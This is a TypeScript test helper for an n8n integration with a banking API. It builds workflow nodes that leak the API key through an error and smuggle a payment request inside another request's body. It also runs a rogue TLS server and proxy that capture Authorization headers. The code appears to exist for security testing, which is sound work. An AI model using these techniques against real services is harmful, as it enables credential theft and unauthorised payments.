import { createServer } from 'node:https';
import { createServer as createProxy } from 'node:http';
import { connect } from 'node:net';
import type { AddressInfo } from 'node:net';
import type { IDataObject, INode } from 'n8n-workflow';
import { ACCOUNT, COMPANIES } from '../simulator/index.mts';
import { CertificateAuthority } from './certificates.mts';

/** n8n's HTTP Request node with the ZEN credential. */
export function httpRequest(name: string, parameters: IDataObject, settings: object = {}): INode {
	return {
		id: name,
		name,
		type: 'n8n-nodes-base.httpRequest',
		typeVersion: 4.2,
		position: [0, 0],
		parameters: {
			authentication: 'predefinedCredentialType',
			nodeCredentialType: 'zenApi',
			...parameters,
		} as never,
		credentials: { zenApi: { id: 'zen', name: 'zen' } },
		...settings,
	};
}

/**
 * Two nodes: one is refused by ZEN, and shows the key in its error; the other hides a payment in the body of
 * a request that passes for something else.
 */
export function smuggle(url: string, method: string, path: string): INode[] {
	const payment = JSON.stringify({
		accountId: ACCOUNT.main,
		externalId: 'SMUGGLED',
		title: 'x',
		amount: { value: '10.00', currency: 'EUR' },
		receiver: { name: 'Example', accountNumber: COMPANIES[0]!.accountNumber },
	}).replaceAll('}}', '} }');
	const head = ['POST /payments/v1.0 HTTP/1.1', 'Host: localhost', 'Authorization: '].join(
		'\\r\\n',
	);
	const more = `Content-Type: application/json\\r\\nContent-Length: ${Buffer.byteLength(payment)}`;
	const key = '($json.error?.cause?.options?.headers?.Authorization ?? "none")';
	const body = `={{ "${head}" + ${key} + "\\r\\n${more}\\r\\n\\r\\n" + ${JSON.stringify(payment)} }}`;
	const goesOn = { onError: 'continueRegularOutput' };
	const headers = [
		{ name: 'Content-Length', value: '0' },
		{ name: 'Connection', value: 'keep-alive' },
	];
	return [
		httpRequest('Provoke', { url: `${url}/accounts/v1.0/nothing` }, goesOn),
		httpRequest(
			'Smuggle',
			{
				method,
				url: `${url}${path}`,
				sendHeaders: true,
				headerParameters: { parameters: headers },
				sendBody: true,
				contentType: 'raw',
				rawContentType: 'text/plain',
				body,
			},
			goesOn,
		),
	];
}

/** A server of somebody else, with a certificate that the credential trusts, and a proxy that leads to it. */
export class Rogue {
	readonly seen: string[] = [];
	private readonly stops: Array<() => void> = [];
	url = '';
	proxy = '';
	ca = '';

	static async start(): Promise<Rogue> {
		const rogue = new Rogue();
		const authority = await CertificateAuthority.create('An authority that is trusted');
		const altNames = ['rogue.example'];
		const id = await authority.issue({ commonName: 'rogue', usage: 'server', altNames });
		const server = createServer(
			{ cert: id.certificate, key: id.privateKey, requestCert: true, rejectUnauthorized: false },
			(request, response) => {
				rogue.seen.push(`${request.method} ${request.url} ${request.headers.authorization}`);
				response.setHeader('content-type', 'application/json').end('[]');
			},
		);
		const port = await rogue.listen(server);
		const proxy = createProxy();
		proxy.on('connect', (request, socket) => {
			rogue.seen.push(`CONNECT ${request.url}`);
			const up = connect(port, '127.0.0.1', () => {
				socket.write('HTTP/1.1 200 OK\r\n\r\n');
				socket.pipe(up).pipe(socket);
			});
			up.on('error', () => socket.destroy());
			socket.on('error', () => up.destroy());
		});
		rogue.ca = authority.certificate;
		rogue.url = `https://localhost:${port}`;
		rogue.proxy = `http://127.0.0.1:${await rogue.listen(proxy)}`;
		return rogue;
	}

	stop(): void {
		for (const stop of this.stops) stop();
	}

	private async listen(server: ReturnType<typeof createProxy>): Promise<number> {
		await new Promise<void>((listening) => server.listen(0, '127.0.0.1', listening));
		this.stops.push(() => {
			server.closeAllConnections();
			server.close();
		});
		return (server.address() as AddressInfo).port;
	}
}
